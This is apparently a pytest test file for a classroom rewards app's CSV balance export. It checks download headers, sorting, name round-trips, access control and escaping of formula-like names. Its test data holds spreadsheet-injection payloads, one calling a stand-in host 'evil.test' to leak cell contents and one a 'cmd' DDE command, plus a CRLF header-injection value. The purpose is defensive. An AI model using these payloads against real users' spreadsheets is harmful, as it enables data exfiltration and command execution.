"""Balances of a class as a CSV file that is safe to open in spreadsheets (specification 4.10)."""

import csv
import io
from urllib.parse import unquote

import pytest
from httpx2 import Response

from tests.factories.room import Room
from tests.factories.world import error

HEADINGS = ["Last name", "First name", "Username", "GoalBucks", "Earned", "Spent", "Goals completed"]


def download(room: Room) -> Response:
    answer = room.desk.get(f"/api/classrooms/{room.classroom.id}/balances.csv")
    assert answer.status_code == 200
    return answer


def csv_rows(room: Room) -> list[list[str]]:
    """Return the parsed rows without the header row."""
    text = download(room).content.decode("utf-8-sig")
    headings, *found = csv.reader(io.StringIO(text, newline=""))
    assert headings == HEADINGS
    return found


def test_balances_file_is_a_download_named_after_the_class(room: Room) -> None:
    headers = download(room).headers
    assert headers["content-type"] == "text/csv; charset=utf-8"
    disposition = headers["content-disposition"]
    assert disposition.startswith("attachment; filename=\"GoalBucks.csv\"; filename*=UTF-8''")
    assert unquote(disposition.partition("''")[2]) == "Room 12 Homeroom GoalBucks.csv"


@pytest.mark.parametrize("name", ["Klasse 5ä 😀", 'a"b; c=d\\e/..', "two\r\nX-Evil: 1", "גן א", "100% 'Math'"])
def test_any_class_name_gives_a_valid_content_disposition_header(room: Room, name: str) -> None:
    room.desk.put(f"/api/classrooms/{room.classroom.id}", {"name": name})
    headers = download(room).headers
    disposition = headers["content-disposition"]
    assert disposition.isascii()
    assert "x-evil" not in headers
    encoded = disposition.partition("UTF-8''")[2]
    assert unquote(encoded) == f"{name} GoalBucks.csv"
    assert not set(encoded) & set("\"';/\\ \r\n")


def test_balances_file_starts_with_a_byte_order_mark(room: Room) -> None:
    content = download(room).content
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\xef\xbb\xbf") == 1
    assert content.decode("utf-8-sig").splitlines()[0] == ",".join(f'"{heading}"' for heading in HEADINGS)


@pytest.mark.spec("4.10")
def test_balances_file_has_a_row_per_student_with_sums(room: Room) -> None:
    room.world.completed_goal(room.student, goalbucks=20)
    room.world.award(room.student, 5)
    room.world.purchase(room.student, room.world.item(room.classroom, goalbucks_cost=8))
    assert csv_rows(room) == [["Okafor", "Amara", room.student.username, "17", "25", "8", "1"]]


def test_student_without_entries_has_zeros_and_balances_may_be_negative(room: Room) -> None:
    classmate = room.world.student(room.classroom, "Diego", "Ramirez")
    room.desk.post(f"/api/students/{room.student.id}/corrections", {"amount": -3, "reason": "Counted twice"})
    assert [row[3:] for row in csv_rows(room)] == [["-3", "-3", "0", "0"], ["0"] * 4]
    assert csv_rows(room)[1][2] == classmate.username


def test_numbers_are_written_as_numbers_and_texts_as_texts(room: Room) -> None:
    room.desk.post(f"/api/students/{room.student.id}/corrections", {"amount": -3, "reason": "Counted twice"})
    line = download(room).content.decode("utf-8-sig").splitlines()[1]
    assert line == f'"Okafor","Amara","{room.student.username}",-3,-3,0,0'


@pytest.mark.spec("4.10")
def test_balances_are_sorted_by_last_then_first_name(room: Room) -> None:
    for first, last in (("zoe", "Adams"), ("Émile", "adams"), ("Ana", "Ódor"), ("Ana", "Ozil"), ("Bob", "adams")):
        room.world.student(room.classroom, first, last)
    names = [f"{row[1]} {row[0]}" for row in csv_rows(room)]
    assert names == ["Bob adams", "Émile adams", "zoe Adams", "Ana Ódor", "Amara Okafor", "Ana Ozil"]


@pytest.mark.parametrize(
    "name",
    [
        "O'Neill",
        'Ana "Anni"',
        "Li, Wei",
        "a;b",
        "two\nlines",
        "tab\there",
        "😀 👩‍🎓",
        "דנה\u200f",
        "\ufeffName",
        "a=b",
        "4-b",
    ],
)
def test_any_student_name_survives_the_csv_round_trip(room: Room, name: str) -> None:
    room.world.student(room.classroom, name, name)
    assert [name, name] in [row[:2] for row in csv_rows(room)]


@pytest.mark.spec("4.10")
@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.test?x="&A1,"Click")',
        "+1+1",
        "\u200b=1+1",
        "\ufeff\u00a0@SUM(A1)",
        "-2+3",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "=",
    ],
)
def test_formula_like_text_gets_an_apostrophe_in_every_column(room: Room, name: str) -> None:
    room.world.student(room.classroom, name, name, username=name)
    (row,) = [row for row in csv_rows(room) if row[0] != "Okafor"]
    assert row[:3] == [f"'{name}"] * 3


def test_balances_of_an_empty_class_have_only_the_header_row(room: Room) -> None:
    room.desk.delete(f"/api/students/{room.student.id}")
    assert csv_rows(room) == []


def test_balances_file_contains_only_the_requested_class(room: Room) -> None:
    for other in (room.another(), room.elsewhere()):
        assert other.student.id
    assert [row[2] for row in csv_rows(room)] == [room.student.username]


def test_balances_file_is_404_for_other_teachers_and_refused_for_students(room: Room) -> None:
    path = f"/api/classrooms/{room.elsewhere().classroom.id}/balances.csv"
    assert error(room.desk.get(path)) == (404, "not_found")
    assert error(room.tablet.get(f"/api/classrooms/{room.classroom.id}/balances.csv")) == (403, "wrong_role")
